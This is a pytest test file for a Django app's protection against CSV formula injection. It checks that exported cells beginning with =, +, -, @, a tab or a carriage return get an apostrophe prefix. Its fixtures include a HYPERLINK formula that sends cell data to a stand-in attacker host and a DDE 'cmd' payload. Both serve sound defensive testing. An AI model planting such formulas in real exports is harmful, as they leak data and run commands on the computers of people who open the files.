"""CSV exports never hand a spreadsheet a formula (CSV injection): text cells starting with = + - @, a tab or a
carriage return get a leading apostrophe; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from perfeccionamiento.models import CodigoInsumo

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://atacante.example/robar?d="&A1;"Ver detalle")'


@pytest.mark.parametrize(
    ("valor", "esperado"),
    [
        ("=1+1", "'=1+1"),
        ("+593 99 123", "'+593 99 123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Tela de algodón", "Tela de algodón"),
        ("-5", "-5"),
        ("+1.50", "+1.50"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        ("", ""),
    ],
)
def test_celda_segura(valor, esperado):
    from tramites.csv_seguro import celda_segura

    assert celda_segura(valor) == esperado


def test_exportacion_de_existencias_neutraliza_formulas(con_saldos, cliente_token):
    esc = con_saldos
    CodigoInsumo.objects.filter(pk=esc.tela.pk).update(descripcion=FORMULA)
    api = cliente_token(esc.agente)
    respuesta = api.get("/api/v1/regimen21/existencias/exportar/")
    texto = b"".join(respuesta.streaming_content).decode("utf-8-sig")
    filas = list(csv.DictReader(io.StringIO(texto)))
    tela = next(f for f in filas if f["código de insumo"] == "TELA-01")
    assert tela["descripción"] == "'" + FORMULA
    assert Decimal(tela["saldo"]) == Decimal("1600")  # numbers are not touched
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for f in filas for v in f.values())
